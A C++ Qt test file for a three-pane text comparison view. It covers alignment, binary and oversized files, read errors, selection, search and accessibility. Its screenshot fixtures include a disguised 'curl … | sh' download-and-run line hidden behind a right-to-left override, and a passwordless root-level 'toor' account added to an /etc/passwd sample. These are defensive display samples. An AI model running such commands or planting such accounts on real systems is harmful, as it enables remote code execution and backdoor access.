// SPDX-FileCopyrightText: 2026 The Assay developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "ui/textviewtest.h"

#include "ui/preview/textview.h"

#include <QAccessible>
#include <QCheckBox>
#include <QClipboard>
#include <QElapsedTimer>
#include <QLineEdit>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QStyle>

#include <random>

using namespace assay;
using namespace assay::test;

class TestTextView : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void showsThree();
    void missingLinesAreGaps();
    void binary();
    void empty();
    void tooLong();
    void fiveMegabyteLine();
    void failing();
    void shrinks();
    void changes();
    void oneSlowSource();
    void paintsOnlyWhatIsVisible();
    void selectsAndCopies();
    void finds();
    void steps();
    void hostileText();
    void accessible();
    void pictures();

private:
    JobRunner m_runner;
};

void TestTextView::showsThree()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(script), fake(script), fake(replaced(script, "version 1", "version X"))), "opt/demo/bin/tool.sh");
    QVERIFY(ready(view, m_runner));
    view.grab();
    QVERIFY(settled(m_runner));
    QCOMPARE(view.rows()->alignment.runs, (std::vector<std::uint32_t>{7}));
    QVERIFY(view.view(0)->visibleText().contains(QStringLiteral("8 ≠ echo tool version 1\n")));
    QVERIFY(view.view(2)->visibleText().contains(QStringLiteral("8 ≠ echo tool version X\n")));
    QVERIFY(view.view(2)->visibleText().contains(QStringLiteral("7   fi\n")));
}

void TestTextView::missingLinesAreGaps()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake("a\nc\n"), fake("a\nb\nc\n"), nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QCOMPARE(view.view(0)->rowCount(), quint64{3});
    QVERIFY(view.view(0)->lineOf(1) == AlignedRow::gap);
    QVERIFY(view.view(0)->visibleText().contains(QStringLiteral("(no such line)")));
    QCOMPARE(view.view(2)->message(), QStringLiteral("Not in this source"));
}

void TestTextView::binary()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    const auto big = std::make_shared<FakeSource>(std::uint64_t{10'000'000'000}, std::vector<std::pair<std::uint64_t, char>>{});
    view.setContents(panes(fake(std::string("\x7f" "ELF\0\0", 6)), fake("text\n"), big), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->message().contains(QStringLiteral("binary")));
    QVERIFY(view.view(2)->message().contains(QStringLiteral("binary")));
    QVERIFY(big->bytesRead.load() <= 8 * 1024);
    QVERIFY(view.view(1)->visibleText().contains(QStringLiteral("text")));
    QSignalSpy spy(&view, &TextCompareView::hexRequested);
    auto *button = view.view(0)->findChild<QPushButton *>(QStringLiteral("messageButton"));
    QVERIFY(button);
    button->click();
    QCOMPARE(spy.count(), 1);
}

void TestTextView::empty()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake({}), fake("a\n"), fake({})), "f");
    QVERIFY(ready(view, m_runner));
    view.grab();
    QCOMPARE(view.view(0)->rowCount(), quint64{1});
    for (const Qt::Key key : {Qt::Key_Left, Qt::Key_Right, Qt::Key_Up, Qt::Key_Down, Qt::Key_End, Qt::Key_PageDown, Qt::Key_A})
        QTest::keyClick(view.view(0), key, key == Qt::Key_A ? Qt::ControlModifier : Qt::NoModifier);
    view.setContents(panes(fake({}), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    view.grab();
    for (const Qt::Key key : {Qt::Key_Left, Qt::Key_Right, Qt::Key_Up, Qt::Key_Down, Qt::Key_End, Qt::Key_PageDown})
        QTest::keyClick(view.view(0), key);
    view.find(QStringLiteral("x"), false, false);
    QVERIFY(ready(view, m_runner));
}

void TestTextView::tooLong()
{
    std::string bytes;
    while (bytes.size() < textByteLimit + 100'000)
        bytes += "one more line of this file\n";
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    const auto source = fake(bytes);
    view.setContents(panes(source, nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->notice().startsWith(QStringLiteral("First 8 MiB of ")));
    QVERIFY(view.view(0)->notice().contains(QStringLiteral("use Hex for the rest")));
    QVERIFY(source->bytesRead.load() <= textByteLimit);
    QCOMPARE(source->readsInWindowThread.load(), 0);
}

void TestTextView::fiveMegabyteLine()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(std::string(5'000'000, 'x')), fake(std::string(5'000'000, 'y') + "\n"), nullptr), "f.py");
    QVERIFY(ready(view, m_runner));
    QElapsedTimer clock;
    clock.start();
    view.grab();
    QVERIFY(clock.elapsed() < 3000);
    QVERIFY(settled(m_runner));
    QCOMPARE(view.rows()->alignment.runs.size(), std::size_t{1});
    QTest::keyClick(view.view(0), Qt::Key_End);
    QVERIFY(view.view(0)->horizontalScrollBar()->value() > 10'000);
    QCOMPARE(view.view(1)->horizontalScrollBar()->value(), view.view(0)->horizontalScrollBar()->value());
    view.grab();
}

void TestTextView::failing()
{
    const auto source = fake(script);
    source->failFrom = 3;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(source, fake(script), nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->message().contains(QStringLiteral("input/output error")));
    QVERIFY(view.view(1)->visibleText().contains(QStringLiteral("#!/bin/sh")));
}

void TestTextView::shrinks()
{
    const auto source = fake(script);
    source->shrunkTo = 12;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(source, nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->notice().contains(QStringLiteral("Ends earlier")));
    QVERIFY(view.view(0)->visibleText().contains(QStringLiteral("#!/bin/sh")));
}

void TestTextView::changes()
{
    const auto source = fake(script);
    source->changed = true;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(source, nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QVERIFY(view.view(0)->notice().contains(QStringLiteral("Changed while it was read")));
}

void TestTextView::oneSlowSource()
{
    QSemaphore gate;
    const auto slow = fake(script);
    slow->gate = &gate;
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(script), nullptr, slow), "f");
    QTRY_COMPARE(view.view(2)->message(), QStringLiteral("Reading…"));
    QTRY_VERIFY(view.view(0)->visibleText().contains(QStringLiteral("#!/bin/sh")));
    gate.release(100);
    QTRY_VERIFY(view.view(2)->visibleText().contains(QStringLiteral("#!/bin/sh")));
    QVERIFY(view.view(2)->message().isEmpty());
    QVERIFY(ready(view, m_runner));
}

void TestTextView::paintsOnlyWhatIsVisible()
{
    std::string bytes;
    for (int i = 0; i < 150'000; ++i)
        bytes += "line number " + std::to_string(i) + " of a long file\n";
    TextCompareView view(m_runner);
    view.resize(1300, 500);
    view.setContents(panes(fake(bytes), fake(bytes), fake(bytes)), "long.py");
    QVERIFY(ready(view, m_runner));
    QElapsedTimer clock;
    clock.start();
    for (int i = 0; i < 20; ++i) {
        view.view(0)->setTopRow(static_cast<quint64>(i) * 7000);
        view.grab();
    }
    const qint64 each = clock.elapsed() / 20;
    qInfo("a paint of three panes of 150,000 lines: %lld ms", static_cast<long long>(each));
    QVERIFY(settled(m_runner));
    QCOMPARE(view.view(2)->topRow(), view.view(0)->topRow());
}

void TestTextView::selectsAndCopies()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake("a\tb\n\x1b[31mred\nend"), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    TextView *text = view.view(0);
    QTest::keyClick(text, Qt::Key_A, Qt::ControlModifier);
    QCOMPARE(QByteArray::fromStdString(text->selectedBytes()), QByteArray("a\tb\n\x1b[31mred\nend"));
    QTest::keyClick(text, Qt::Key_C, Qt::ControlModifier);
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("a\\tb\n\\u{001B}[31mred\nend"));
    view.copySelection(true);
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("a\tb\n\x1b[31mred\nend"));
    // Half an escape is the whole character.
    text->setCursor({1, 3}, {1, 0});
    QCOMPARE(text->selectedBytes(), std::string("\x1b"));
    QTest::keyClick(text, Qt::Key_Home, Qt::ControlModifier);
    QTest::keyClick(text, Qt::Key_Down, Qt::ShiftModifier);
    QCOMPARE(text->selectedBytes(), std::string("a\tb\n"));
    QTest::mouseDClick(text->viewport(), Qt::LeftButton, {}, QPoint(text->viewport()->width() / 8, text->lineHeight() * 5 / 2));
    QTest::mousePress(text->viewport(), Qt::LeftButton, {}, QPoint(60, 5));
    QTest::mouseRelease(text->viewport(), Qt::LeftButton, {}, QPoint(60, 5));
    QVERIFY(!text->hasSelection());
}

void TestTextView::finds()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    view.setContents(panes(fake(script), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QSignalSpy messages(&view, &TextCompareView::statusMessage);
    TextView *text = view.view(0);
    view.find(QStringLiteral("TOOLRC"), false, false);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->selectedBytes(), std::string("toolrc"));
    QCOMPARE(text->cursor().row, quint64{4});
    view.find(QStringLiteral("TOOLRC"), false, false);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->cursor().row, quint64{5});
    view.find(QStringLiteral("TOOLRC"), false, false);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->cursor().row, quint64{4});
    QVERIFY(messages.last().at(0).toString().contains(QStringLiteral("Wrapped")));
    view.find(QStringLiteral("toolrc"), true, true);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(text->cursor().row, quint64{5});
    view.find(QStringLiteral("TOOLRC"), true, true);
    QVERIFY(ready(view, m_runner));
    QCOMPARE(messages.last().at(0).toString(), QStringLiteral("Not found."));
    view.show();
    text->setFocus();
    QTest::keyClick(text, Qt::Key_F, Qt::ControlModifier);
    auto *field = view.findChild<QLineEdit *>(QStringLiteral("textFindField"));
    QVERIFY(field->isVisible());
    QCOMPARE(field->text(), QStringLiteral("toolrc")); // what was selected
    QTest::keyClick(field, Qt::Key_Escape);
    QVERIFY(!field->isVisible());
}

void TestTextView::steps()
{
    TextCompareView view(m_runner);
    view.resize(1300, 300);
    const std::string other = replaced(replaced(script, "#!/bin/sh", "#!/bin/bash"), "version 1", "version X");
    view.setContents(panes(fake(script), nullptr, fake(other)), "f");
    QVERIFY(ready(view, m_runner));
    QSignalSpy messages(&view, &TextCompareView::statusMessage);
    QCOMPARE(view.view(0)->cursor(), (TextPlace{0, 7})); // it opens at the first one
    view.stepDifference(false);
    QCOMPARE(view.view(2)->cursor().row, quint64{7});
    view.stepDifference(false);
    QCOMPARE(view.view(0)->cursor().row, quint64{0});
    QVERIFY(messages.last().at(0).toString().contains(QStringLiteral("Wrapped")));
    view.stepDifference(true);
    QCOMPARE(view.view(0)->cursor().row, quint64{7});
    view.setContents(panes(fake(script), nullptr, fake(script)), "f");
    QVERIFY(ready(view, m_runner));
    view.stepDifference(false);
    QCOMPARE(messages.last().at(0).toString(), QStringLiteral("These texts are the same."));
}

void TestTextView::hostileText()
{
    std::mt19937 random(11);
    TextCompareView view(m_runner);
    view.resize(1000, 300);
    view.show();
    for (int round = 0; round < 60; ++round) {
        std::array<ByteSourcePtr, 3> sources;
        for (auto &source : sources) {
            std::string bytes;
            const std::size_t size = random() % 2000;
            while (bytes.size() < size) {
                static const std::vector<std::string> parts{"\xe2\x80\xae", "\xff", "\n", "\r", "\t", "a", "word", "\x1b[0m", "\xd7\x90\xd7\x91", "\xcc\x81",
                                                            "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x9a\x80", "<img src=\"file:///tmp/x\">", "#!/bin/sh", "\xe2\x80\xa8", "\xed\xa0\x80"};
                bytes += parts[random() % parts.size()];
            }
            if (random() % 5 != 0)
                source = fake(bytes);
        }
        view.setContents(panes(sources[0], sources[1], sources[2]), "hostile");
        QVERIFY(ready(view, m_runner));
        view.findChild<QCheckBox *>(QStringLiteral("textAsIs"))->setChecked(round % 2 == 1);
        for (int i = 0; i < 20; ++i) {
            static const Qt::Key keys[] = {Qt::Key_Left, Qt::Key_Right, Qt::Key_Up, Qt::Key_Down, Qt::Key_Home, Qt::Key_End, Qt::Key_PageDown};
            TextView *current = view.view(static_cast<int>(random() % 3));
            QTest::keyClick(current, keys[random() % 7], random() % 2 == 0 ? Qt::ShiftModifier : Qt::NoModifier);
            current->selectedBytes();
        }
        view.stepDifference(round % 3 == 0);
        view.find(QStringLiteral("word"), false, false);
        view.grab();
        QVERIFY(ready(view, m_runner));
    }
}

void TestTextView::accessible()
{
    TextCompareView view(m_runner);
    view.resize(1000, 300);
    view.setContents(panes(fake(script), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QAccessibleInterface *face = QAccessible::queryAccessibleInterface(view.view(0));
    QVERIFY(face && face->textInterface());
    QCOMPARE(face->text(QAccessible::Name), QStringLiteral("Text, vendor"));
    QVERIFY(face->textInterface()->text(0, 1000).contains(QStringLiteral("#!/bin/sh")));
    const auto widgets = view.findChildren<QWidget *>();
    for (const QWidget *widget : widgets) {
        if (widget->focusPolicy() != Qt::NoFocus && widget->isVisibleTo(&view) && !widget->objectName().startsWith(QStringLiteral("qt_")))
            QVERIFY2(!widget->accessibleName().isEmpty() || qobject_cast<const QLineEdit *>(widget), qPrintable(widget->objectName()));
    }
}

void TestTextView::pictures()
{
    const std::string live = replaced(replaced(script, "version 1", "version X"), "fi\n", "fi\ncurl -s http://203.0.113.9/x | sh  # \xe2\x80\xae" "harmless\n");
    const std::string saved = replaced(script, "# starts the tool\n", "");
    for (const bool dark : {false, true}) {
        QApplication::setPalette(dark ? darkPalette() : QApplication::style()->standardPalette());
        const QString suffix = dark ? QStringLiteral("-dark") : QStringLiteral("-light");
        TextCompareView view(m_runner);
        view.resize(1400, 300);
        view.setContents(panes(fake(script), fake(saved), fake(live)), "opt/demo/bin/tool.sh");
        view.show();
        view.view(1)->setFocus();
        QVERIFY(ready(view, m_runner));
        view.grab();
        QVERIFY(settled(m_runner));
        picture(view, QStringLiteral("text-wide") + suffix);
        view.resize(820, 240);
        view.setContents(panes(nullptr, fake(std::string("\x7f" "ELF\0", 5)), fake(std::string(6000, 'x') + "\nlast")), "f");
        QVERIFY(ready(view, m_runner));
        view.openFind();
        view.grab();
        picture(view, QStringLiteral("text-small") + suffix);
        const std::string accounts = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n# note\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
        view.resize(1400, 200);
        view.setContents(panes(fake(accounts), fake(accounts), fake(accounts + "toor::0:0::/root:/bin/sh\n")), "etc/passwd");
        QVERIFY(ready(view, m_runner));
        view.grab();
        QVERIFY(settled(m_runner));
        picture(view, QStringLiteral("text-passwd") + suffix);
    }
    QApplication::setPalette(QApplication::style()->standardPalette());
}

QTEST_MAIN(TestTextView)
#include "tst_textview.moc"
